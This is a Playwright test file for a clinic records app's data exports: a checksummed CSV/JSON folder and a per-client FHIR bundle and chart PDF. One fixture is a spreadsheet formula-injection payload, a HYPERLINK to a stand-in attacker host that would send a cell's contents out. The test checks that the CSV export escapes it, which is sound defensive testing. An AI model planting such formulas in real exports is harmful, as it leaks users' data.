// Exports in the real app: Settings → "Export all data…" writes a checked folder (the harness
// writes under <data folder>/exports, where Electron would ask with a folder dialog), and a
// client's chart → "Export record…" saves the FHIR file (a download) or the chart PDF.
import type { Page } from '@playwright/test';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { expect, SETUP, snapshot, test } from './fixtures';

const nav = (page: Page) => page.getByRole('navigation', { name: 'Main' });
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';

test('Export all data: a checked folder of CSV and JSON, formulas escaped, described in plain words', async ({ page, harness }) => {
  expect((await harness.invoke('clinic/setup', { ...SETUP, access: { mode: 'none' } })).ok).toBe(true);
  expect((await harness.invoke('clients/create', { legalFirstName: 'Eleanor', legalLastName: 'Vance', notes: EVIL })).ok).toBe(true);
  expect((await harness.invoke('clients/create', { legalFirstName: 'Theo', legalLastName: 'Crain' })).ok).toBe(true);

  await page.goto('/');
  await nav(page).getByRole('link', { name: 'Settings' }).click();
  const card = page.getByRole('region', { name: 'Export all data' });
  await expect(card).toContainText('Passcodes are never exported');
  await card.getByRole('button', { name: 'Export all data…' }).click();
  const result = card.getByRole('status');
  await expect(result).toContainText('Export complete and checked');
  await expect(result).toContainText(/\d+ rows from \d+ tables and 0 scanned orders, in \d+ files \(.+\)\. Every file was read back and matches its checksum\./);
  const exports = join(harness.dataDir, 'exports');
  const [folder] = readdirSync(exports);
  expect(folder).toMatch(/^Palpate export \d{4}-\d{2}-\d{2} \d{2}-\d{2}-\d{2}$/);
  await expect(result.locator('code')).toHaveText(join(exports, folder!));
  await result.getByText('Rows per table').click();
  await expect(result.getByRole('listitem').filter({ hasText: 'Clients' }).first()).toContainText('2');
  await snapshot(page, 'export-all-data');
  await card.screenshot({ path: 'test-results/screens/export-all-data-card.png' });

  // The files: the clients' CSV parses back to the same count, the formula comes out escaped.
  const root = join(exports, folder!);
  const manifest = JSON.parse(readFileSync(join(root, 'manifest.json'), 'utf8')) as { tables: { name: string; rows: number }[] };
  expect(manifest.tables.find((t) => t.name === 'clients')?.rows).toBe(2);
  const csv = Papa.parse<string[]>(readFileSync(join(root, 'csv', 'clients.csv'), 'utf8'), { newline: '\r\n' });
  expect(csv.errors).toEqual([]);
  expect(csv.data).toHaveLength(3);
  const notes = csv.data[0]!.indexOf('notes');
  expect(csv.data.map((row) => row[notes])).toContain(`'${EVIL}`);

  // The audit trail lists the export.
  await page.getByRole('region', { name: 'Audit trail' }).getByLabel('Action').selectOption({ label: 'Exported' });
  await expect(page.getByRole('region', { name: 'Audit trail' }).getByRole('row').filter({ hasText: 'Exported all data' })).toHaveCount(1);
});

test('Export record… on a chart saves the client as a FHIR R4 bundle', async ({ page, harness }) => {
  expect((await harness.invoke('clinic/setup', { ...SETUP, access: { mode: 'none' } })).ok).toBe(true);
  const client = (await harness.invoke('clients/create', { legalFirstName: 'Eleanor', legalLastName: 'Vance', dateOfBirth: '1980-04-12', sex: 'female' })).value;
  const practitioner = (await harness.invoke('practitioners/list', {})).value[0];
  const session = (await harness.invoke('sessions/start', { clientId: client.id, practitionerId: practitioner.id, sessionDate: '2026-11-02' })).value;
  const signed = await harness.invoke('sessions/sign', { id: session.id, signedBy: practitioner.id, practitionerId: practitioner.id, sessionDate: '2026-11-02', subjective: 'Neck ache', painBefore: 6, painAfter: 3 });
  expect(signed.ok).toBe(true);

  await page.goto(`/#/clients/${client.id}`);
  await expect(page.getByRole('heading', { level: 1, name: 'Eleanor Vance' })).toBeVisible();
  await page.getByRole('button', { name: 'Export record…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Export record' });
  await expect(dialog.getByRole('button', { name: 'Save chart PDF' })).toBeVisible();
  await snapshot(page, 'export-record-dialog');

  const downloading = page.waitForEvent('download');
  await dialog.getByRole('button', { name: 'Save FHIR file' }).click();
  const download = await downloading;
  expect(download.suggestedFilename()).toMatch(/^Record - Vance, Eleanor - \d{4}-\d{2}-\d{2} - FHIR\.json$/);
  const bundle = JSON.parse(readFileSync((await download.path())!, 'utf8')) as { resourceType: string; type: string; entry: { resource: { resourceType: string } }[] };
  expect(bundle).toMatchObject({ resourceType: 'Bundle', type: 'collection' });
  const types = bundle.entry.map((e) => e.resource.resourceType).sort();
  expect(types).toEqual(['DocumentReference', 'Encounter', 'Observation', 'Observation', 'Patient', 'Practitioner']);
  await expect(dialog.getByRole('status')).toContainText('1 session, 2 findings and pain scores, 1 signed note');

  // The chart PDF goes through the host's save (the harness writes it under <data folder>/exports).
  await dialog.getByRole('button', { name: 'Save chart PDF' }).click();
  await expect(page.getByText(/^Saved to .*Chart - Vance, Eleanor/)).toBeVisible({ timeout: 20_000 });
});
